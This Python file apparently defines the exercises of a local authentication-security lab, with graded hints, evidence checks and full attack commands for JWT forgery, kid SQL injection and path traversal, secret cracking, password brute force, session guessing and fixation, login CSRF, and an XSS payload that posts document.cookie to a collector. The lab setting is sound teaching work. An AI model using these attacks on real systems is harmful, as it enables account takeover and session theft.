"""The lab's exercises as data: for each lab, the goal, the tools, graded hints, and the evidence
in the server's journal that the lab's weakness (and nothing else) let the request through.

Hints are read one at a time, each a step closer; `{url}` is the run's server. A hint that
states a fact carries a [^source] key. The full attack is `authcli lab NAME` (--solution). The
OAuth labs' exercises are in exercises_oauth.py.
"""

from __future__ import annotations

from typing import Any, Callable

from authcli.events import KeyChosen, SessionLookedUp
from authcli.server.journal import RequestRecord
from authcli.server.lab.answer import ANSWER_PATH, VICTIM_PATH
from authcli.walkthroughs.lab.exercise_model import Exercise, checked
from authcli.walkthroughs.lab.exercises_oauth import OAUTH_EXERCISES

LOGIN = ("curl -s -X POST {url}/login -H 'Content-Type: application/json' "
         "-d '{{\"email\":\"eve@example.com\",\"password\":\"eve\"}}'")
# The answer's JSON field, printed (python3: no jq needed); hints set shell variables for the next.
FIELD = "python3 -c 'import json,sys; print(json.load(sys.stdin)[\"{name}\"])'"
SEND_CMD = "curl -s -H \"Authorization: Bearer $FORGED\" {url}/admin"
SEND = "Send it: " + SEND_CMD
SUB = "--set sub='\"1\"'"  # sub is a StringOrURI: the JSON string "1", never the number 1
# The server's public JWK written as PEM (SubjectPublicKeyInfo, final newline kept), with the
# PyJWT and cryptography that authcli installs.
PEM = ("python3 -c 'import json,sys,jwt; from cryptography.hazmat.primitives import serialization as s; "
       "k=jwt.algorithms.RSAAlgorithm.from_jwk(json.load(sys.stdin)[\"keys\"][0]); "
       "sys.stdout.buffer.write(k.public_bytes(s.Encoding.PEM, s.PublicFormat.SubjectPublicKeyInfo))'")
# Two of the server's tokens -> its RSA public key as PEM (authcli/tokens/recover.py: a gcd, checked
# by verifying both signatures with the key found).
RECOVER = ("python3 -c 'import sys; from authcli.tokens.parse import split; from authcli.tokens.recover import "
           "recover; sys.stdout.buffer.write(recover(split(sys.argv[1]), split(sys.argv[2])).pem())'")
MY_TOKEN = "TOKEN=$(" + LOGIN + " | " + FIELD.format(name="token") + ")"


def decode(note: str) -> str:
    """Hint 1 of a JWT lab: log in, keep the token in $TOKEN, decode it; `note` is the lab's."""
    return ("Log in as yourself and decode the token it answers (without a key, authcli decode shows what it "
            "claims, unverified). " + note + " This server takes who you are from sub alone: it never reads "
            "userId, which a changed token keeps as it was: " + MY_TOKEN + "; authcli decode \"$TOKEN\"")


def forge(options: str) -> str:
    """The forged token for user 1, kept in $FORGED for the next command."""
    return f"FORGED=$(authcli tamper \"$TOKEN\" {SUB} {options})".replace(" )", ")")



def _skipped(name: str) -> Callable[[RequestRecord], bool]:
    """The weak server marked check `name` as not done (ok None) and still answered."""
    def evidence(record: RequestRecord, run: Any = None) -> bool:
        event = checked(record)
        return event is not None and any(c.name == name and c.ok is None for c in event.checks)
    return evidence


def _alg_none(record: RequestRecord, run: Any = None) -> bool:
    event = checked(record)
    alg = (event.header or {}).get("alg") if event is not None else None
    return isinstance(alg, str) and alg.lower() == "none"


def _foreign_key(record: RequestRecord, run: Any = None) -> bool:
    """The weak server verified with a key the token led it to, not its own (KeyChosen)."""
    return any(isinstance(e, KeyChosen) for e in record.events)


def _kid_as_sql(record: RequestRecord, run: Any = None) -> bool:
    """The weak server verified with what its key query returned, and the kid it pasted into that
    query is not a key name (letters, digits, - and _): its text changed the SQL."""
    from authcli.server.lab.kid_sql import KID_NAME

    event = checked(record)
    kid = (event.header or {}).get("kid") if event is not None else None
    return _foreign_key(record) and isinstance(kid, str) and not KID_NAME.fullmatch(kid)


def _answered(record: RequestRecord, run: Any = None) -> bool:
    """user-enum's requests to /answer are judged by the run (practice_enum.Enumeration)."""
    return False


def _own_key(record: RequestRecord, run: Any = None) -> bool:
    """Every check passed with the server's own (guessable) secret. User 1 cannot log in (its
    password is random each run, and the run refuses user 1's login tokens by jti), so a token
    for user 1 that passes was signed by someone who found the secret."""
    event = checked(record)
    return event is not None and all(c.ok is not False for c in event.checks) and not _foreign_key(record, run)


def _session_of_user_1(record: RequestRecord, run: Any = None) -> bool:
    """The weak server found user 1's session record under the cookie sent. User 1's password
    is random each run and only the exercise's own user 1 logs in, never asking for /admin."""
    return any(isinstance(e, SessionLookedUp) and e.record is not None and e.record.get("userId") == 1
               for e in record.events)


def _fixed(record: RequestRecord, run: Any) -> bool:
    """User 1's session, under an ID the student planted in user 1's browser before they logged in."""
    return any(isinstance(e, SessionLookedUp) and e.record is not None and e.record.get("userId") == 1
               and e.session_id in run.planted for e in record.events)


def _guessed(record: RequestRecord, run: Any) -> bool:
    """User 1's session, from a login that came after more failed guesses for user 1 than the
    hardened server allows (a password known beforehand, from another run, needs none)."""
    from authcli.server.policy import LoginLimits

    return any(isinstance(e, SessionLookedUp) and e.record is not None and e.record.get("userId") == 1
               and run.failures_before(e.session_id) >= LoginLimits().per_account for e in record.events)


JWT_TOOLS = ("curl", "authcli decode", "authcli tamper")

EXERCISES: dict[str, Exercise] = {e.name: e for e in [
    Exercise("no-verify", "Get this run's flag from GET /admin, which answers only user 1.", JWT_TOOLS, (
        decode("/admin wants user 1."),
        "This server reads the claims without checking the signature: a token whose payload was "
        "changed after signing is still believed [^portswigger-jwt].",
        "authcli tamper changes sub and keeps the old signature; sub stays a string, as RFC 7519 asks "
        "[^rfc7519-4.1]: " + forge(""),
        SEND), _skipped("signature")),
    Exercise("alg-none", "Get this run's flag from GET /admin, which answers only user 1.", JWT_TOOLS, (
        decode("Its header's alg says how it was signed."),
        "A JWT may be unsecured: alg none and an empty signature [^rfc7518-3.6]. A verifier that lets "
        "the token choose the algorithm accepts one [^rfc8725-3.1].",
        "--alg none writes alg none and drops the signature, keeping the other claims (exp, aud) as they "
        "were: " + forge("--alg none"),
        SEND), _alg_none),
    Exercise("weak-secret", "Get this run's flag from GET /admin, which answers only user 1.",
             (*JWT_TOOLS, "authcli crack"), (
        decode("It is HS256: one secret both signs and checks it."),
        "An HMAC signature can be checked against guessed secrets offline, from one token, without "
        "asking the server; a secret a person chose is likely in a wordlist, which is why human-memorizable "
        "passwords MUST NOT be used directly as an HMAC key [^rfc8725-3.5].",
        "authcli crack tries a wordlist of secrets people really use; keep what it finds in SECRET: "
        "SECRET=$(authcli crack \"$TOKEN\" | sed -n \"s/^FOUND the HS256 secret is '\\(.*\\)'$/\\1/p\"); "
        "echo \"secret: $SECRET\"",
        "Sign a token for user 1 with it, and send it: " + forge("--secret \"$SECRET\"") + "; " + SEND_CMD),
        _own_key),
    Exercise("jwk-header", "Get this run's flag from GET /admin, which answers only user 1.", JWT_TOOLS, (
        decode("It is RS256: signed with the server's private key, which you do not have."),
        "A server that takes the verifying key from the token's own jwk header accepts a token signed "
        "with any key the attacker made [^portswigger-jwt].",
        "--embed-jwk makes a key pair, signs with its private half and puts the public half in the "
        "header's jwk: " + forge("--embed-jwk"),
        SEND), _foreign_key),
    Exercise("jku-header", "Get this run's flag from GET /admin, which answers only user 1.",
             (*JWT_TOOLS, "python3 -m http.server"), (
        decode("It is RS256: signed with the server's private key, which you do not have."),
        "A jku header names a URL that holds a JWK Set [^rfc7515-4.1.2] [^rfc7517-5]; a server that fetches keys from "
        "whatever URL the token names verifies with the attacker's key [^portswigger-jwt].",
        "--jku signs with a new key and writes its key set to jwks.json in this folder. This lab server "
        "fetches from loopback only: " + forge("--jku http://127.0.0.1:8000/jwks.json"),
        "In a second terminal, in the same folder, serve it (python3 -m http.server 8000 --bind 127.0.0.1), "
        "then, back in this one: " + SEND_CMD), _foreign_key),
    Exercise("kid-path", "Get this run's flag from GET /admin, which answers only user 1.", JWT_TOOLS, (
        decode("Its header's kid names the key the server should use."),
        "kid is only a hint for choosing a key [^rfc7515-4.1.4]; this server joins it to its key "
        "folder and reads that file as the HMAC secret. /dev/null is on every Linux machine and reads "
        "as zero bytes [^portswigger-jwt].",
        "Sign with the empty key (extra ../ are harmless: .. at / stays at /): "
        + forge("--header kid=../../../../../../../../dev/null --secret ''"),
        SEND), _foreign_key),
    Exercise("alg-confusion", "Get this run's flag from GET /admin, which answers only user 1.", JWT_TOOLS, (
        decode("It is RS256, and the server publishes its public key at {url}/.well-known/jwks.json: "
               "anyone may have it [^rfc7517-5]."),
        "A verifier that lets the token's alg decide checks an HS256 token's HMAC with the key bytes "
        "it holds, here the public key's PEM, which you have too [^rfc8725-3.1].",
        "Write the key as PEM: curl -s {url}/.well-known/jwks.json | " + PEM + " > public.pem",
        "Sign with those exact bytes (final newline kept), and send it: "
        + forge("--alg HS256 --secret-file public.pem") + "; " + SEND_CMD), _foreign_key),
    Exercise("alg-confusion-no-key", "Get this run's flag from GET /admin, which answers only user 1.",
             (*JWT_TOOLS, "python3 with authcli.tokens.recover (pip install 'authcli[gmpy2]')"), (
        decode("It is RS256, and this server publishes no key: {url}/.well-known/jwks.json is 404."),
        "An RS256 signature s is m^d mod n, where m is the PKCS #1 v1.5 encoding of header.payload's "
        "SHA-256, which anyone can compute [^rfc8017-9.2]; with e = 65537, s^e - m is a multiple of n "
        "for every token, so the gcd over two tokens gives the public key away [^portswigger-alg-confusion].",
        "Log in once more for a second token, T2, and recover the key as PEM from both with authcli's own "
        "code (gmpy2 makes it seconds): " + MY_TOKEN.replace("TOKEN=", "T2=", 1) + "; " + RECOVER
        + " \"$TOKEN\" \"$T2\" > public.pem",
        "A verifier that lets the token's alg decide checks an HS256 token's HMAC with the public key's "
        "PEM [^rfc8725-3.1]. Sign with it, and send it: " + forge("--alg HS256 --secret-file public.pem")
        + "; " + SEND_CMD),
        _foreign_key),
    Exercise("kid-sql", "Get this run's flag from GET /admin, which answers only user 1.",
             (*JWT_TOOLS, "authcli sign"), (
        decode("Its header's kid names the key the server should use: the name of a row in its SQLite "
               "keys table."),
        "This server finds the key with SQL built from kid's text, between single quotes. A kid that "
        "closes the quote and adds UNION SELECT 'a string' makes the query return that string as the "
        "key [^webgoat-jwt].",
        "Pick your own secret, say known-secret, and write a kid that returns it: "
        "x' UNION SELECT 'known-secret' -- (-- makes the rest of the line a comment [^sqlite-comments]).",
        "Sign a token for user 1 with that secret, and send it: "
        + forge("--header \"kid=x' UNION SELECT 'known-secret' --\" --secret known-secret") + "; " + SEND_CMD),
        _kid_as_sql),
    Exercise("no-exp", "Get this run's flag from GET /admin with the token of user 1's found in an "
             "old log file (shown below).", ("curl", "authcli decode"), (
        "Decode the old token (OLD, pasted from the start) and look at exp, and "
        "at today's date: authcli decode \"$OLD\"",
        "exp is the time on or after which a token must not be accepted [^rfc7519-4.1.4]; this server "
        "never looks at it.",
        "Send it as it is: curl -s -H \"Authorization: Bearer $OLD\" {url}/admin"),
        _skipped("exp"), leaked="Found in an old log file, user 1's token; paste this line into your shell:\n"
        "  OLD='{value}'"),
    Exercise("predictable-id", "Get this run's flag from GET /admin, which answers only user 1. User 1 "
             "logged in when this exercise started.", ("curl",), (
        "Log in as yourself: your session ID is in the answer's Set-Cookie header (curl -i shows the headers). "
        "Keep it in MINE: MINE=$(" + LOGIN.replace("-s", "-si") + " | tr -d '\\r' | sed -n "
        "'s/^[Ss]et-[Cc]ookie: sessionId=\\([^;]*\\).*/\\1/p'); echo \"your session ID: $MINE\"",
        "A session ID is all that says who you are, so it must be unguessable: OWASP asks for at least "
        "64 bits of entropy from a secure random generator [^owasp-session-entropy]. Is yours random?",
        "User 1 logged in when the exercise started, before anyone else: their ID is the first this "
        "server gave out, one less than the ID of your first login.",
        "Send theirs, one less than yours: curl -s -H \"Cookie: sessionId=$((MINE - 1))\" {url}/admin"),
        _session_of_user_1),
    Exercise("logout-cookie-only", "Get this run's flag from GET /admin, which answers only user 1, with "
             "user 1's cookie, copied before user 1 logged out (shown below).", ("curl",), (
        "User 1 logged out: the answer to POST /logout cleared the cookie in their browser (Max-Age=0). "
        "Your copy is not in their browser.",
        "Logging out must end the session on the server, not only remove the cookie "
        "[^owasp-session-expiration].",
        "Send the copy (COPY, pasted from the start): curl -s -H \"Cookie: sessionId=$COPY\" {url}/admin"),
        _session_of_user_1, leaked="Copied from a shared computer before user 1 logged out, their session ID; paste "
        "this line into your shell:\n  COPY='{value}'"),
    Exercise("no-server-expiry", "Get this run's flag from GET /admin, which answers only user 1, with "
             "user 1's cookie, copied before its Max-Age ran out (shown below).", ("curl",), (
        "The cookie's Max-Age told user 1's browser when to delete it [^mdn-set-cookie]: after 1 s. A "
        "copy made elsewhere is not bound by that.",
        "A server must end a session at its own deadline, whatever the client still sends "
        "[^owasp-session-expiration].",
        "Send the copy (COPY, pasted from the start): curl -s -H \"Cookie: sessionId=$COPY\" {url}/admin"),
        _session_of_user_1, leaked="Copied from user 1's browser, their session ID; its Max-Age (1 s) has passed. "
        "Paste this line into your shell:\n  COPY='{value}'"),
    Exercise("no-rate-limit", "Get this run's flag from GET /admin, which answers only user 1 (a@b.com), by "
             "guessing user 1's password: it is one of the secrets in the list below.", ("curl", "a shell loop"), (
        "Log in as a@b.com with a wrong password a few times: does the server ever stop answering?",
        "An attacker with a list of common passwords tries them one after another; a server must "
        "limit failed logins (without letting the attacker lock the real user out) [^owasp-account-lockout].",
        "Try each line in turn and print the one that works: while read -r p; do curl -s -o /dev/null "
        "-w \"%{{http_code}} $p\\n\" -X POST {url}/login -H 'Content-Type: application/json' -d "
        "\"{{\\\"email\\\":\\\"a@b.com\\\",\\\"password\\\":\\\"$p\\\"}}\"; done < LIST | grep ^200",
        "Log in with it keeping the cookie (curl -c jar.txt ...), then: curl -s -b jar.txt {url}/admin"),
        _guessed, leaked="User 1's password is one of the secrets in this list (one a line): {value}", guessing=True),
    Exercise("user-enum", "Find which of the 20 emails below have an account on this server, and send exactly "
             "those as JSON {\"emails\": [...]} to POST /answer (3 answers are judged per run).",
             ("curl", "a shell loop"), (
        "Log in with your own email and a wrong password, then with an email from the list and a wrong "
        "password: compare the two answers.",
        "A login that answers an unknown email differently from a wrong password tells anyone which "
        "emails have accounts; one generic answer (and the same work, so the same time) does not "
        "[^owasp-authentication].",
        "Ask for each email in turn and keep those whose answer is not about the email: for e in LIST; do "
        "printf '%s ' $e; curl -s -X POST {url}/login -H 'Content-Type: application/json' -d "
        "\"{{\\\"email\\\":\\\"$e\\\",\\\"password\\\":\\\"x\\\"}}\"; echo; done | grep 'Wrong password' "
        "(LIST: the 20 emails, pasted as shown)",
        "Send them: curl -s -X POST {url}/answer -H 'Content-Type: application/json' -d "
        "'{{\"emails\": [\"x@b.com\", \"y@b.com\"]}}'"),
        _answered, leaked="The 20 emails: {value}", path=ANSWER_PATH, route=ANSWER_PATH),
    *OAUTH_EXERCISES,
    Exercise("no-httponly", "Get this run's flag from GET /admin, which answers only user 1. User 1 is logged "
             "in, in Chromium, on a page with an XSS bug: POST JSON {\"script\": \"...\"} to /victim and their "
             "page runs it. /collect is yours: POST anything to it, GET it back.", ("curl",), (
        "Look at the cookie this server sets at login: " + LOGIN.replace("-s", "-si")
        + ". Which attributes does Set-Cookie have?",
        "Without HttpOnly, page script reads the cookie as document.cookie; with it, the browser leaves "
        "the cookie out of every API but HTTP [^rfc6265-4.1.2.6]. Script injected by an XSS bug runs as "
        "the page's own, so it can read the session ID and send it anywhere [^owasp-session-httponly].",
        "Make user 1's page send you its cookies: curl -s -X POST {url}/victim -H 'Content-Type: "
        "application/json' -d '{{\"script\": \"fetch(\\\"/collect\\\", {{method: \\\"POST\\\", body: "
        "document.cookie}})\"}}', then read what came: curl -s {url}/collect",
        "Send user 1's ID yourself: curl -s -H 'Cookie: sessionId=THEIR_ID' {url}/admin. HttpOnly only keeps "
        "the ID in the browser: the same script could still use the session from inside the page, as HTTP "
        "requests carry the cookie [^rfc6265-4.1.2.6]; what the page's script fetches is not counted here."),
        _session_of_user_1, route=VICTIM_PATH),
    Exercise("login-csrf", "Make user 1's browser log in to your account (eve), so that what they type next "
             "lands where you can read it. User 1 opens a page you write: POST JSON {\"page\": \"<html>...\"} "
             "to /victim, and their Chromium opens it at http://attacker.example/, another site.",
             ("curl", "python3"), (
        "See what this server's /login takes: your own login with -H 'Content-Type: text/plain' instead of "
        "JSON: " + LOGIN.replace("-s", "-si").replace("application/json", "text/plain"),
        "An HTML form on any site can POST to any other, with the victim's browser, and text/plain is one "
        "of its encodings; a login form needs CSRF protection too, or the victim is logged in to the "
        "attacker's account [^owasp-csrf].",
        "A text/plain form sends each field as name=value and a line break [^html-text-plain]: one input "
        "named '{{\"email\":\"eve@example.com\",\"password\":\"eve\",\"pad\":\"' with the value "
        "'\"}}' makes the body JSON. Put it in a form with action {url}/login, method POST and enctype "
        "text/plain, and a script that submits it, in page.html.",
        "Send it: python3 -c 'import json; print(json.dumps({{\"page\": open(\"page.html\").read()}}))' | "
        "curl -s -X POST {url}/victim -H 'Content-Type: application/json' -d @-"),
        _answered, route=VICTIM_PATH),
    Exercise("fixation", "Get this run's flag from GET /admin, which answers only user 1. You can set a "
             "cookie in user 1's browser: POST JSON {\"sessionId\": \"...\"} to /victim, and user 1 logs "
             "in carrying it.", ("curl",), (
        "Make up a session ID of the shape this server gives out (43 letters, digits, - and _): "
        "ID=$(python3 -c 'import secrets; print(secrets.token_urlsafe(32))'). Log in as yourself "
        "carrying it, and look at Set-Cookie in the answer: "
        + LOGIN.replace("-s", "-si").replace("-X POST", "-H \"Cookie: sessionId=$ID\" -X POST"),
        "A server that keeps the session ID a client brought to login lets whoever chose that ID use the "
        "session; the ID must be renewed at login [^owasp-session-renew]. A cookie can be set for a site "
        "from a sibling subdomain [^rfc6265-8.6], which is one way an attacker plants one.",
        "Plant it in user 1's browser (or a new one of the same shape): curl -s -X POST {url}/victim -H 'Content-Type: application/json' "
        "-d \"{{\\\"sessionId\\\": \\\"$ID\\\"}}\", and wait until this terminal says user 1 logged in.",
        "Use the same ID: curl -s -H \"Cookie: sessionId=$ID\" {url}/admin"),
        _fixed, route=VICTIM_PATH),
]}


def hint(exercise: Exercise, number: int, url: str = "http://127.0.0.1:PORT",
         provider: str = "http://127.0.0.1:AS_PORT") -> str:
    """Hint `number` (from 1), with the run's URL in place of {url} (and its authorization server's
    in place of {provider}, for a client app's lab)."""
    return exercise.hints[number - 1].format(url=url, provider=provider)
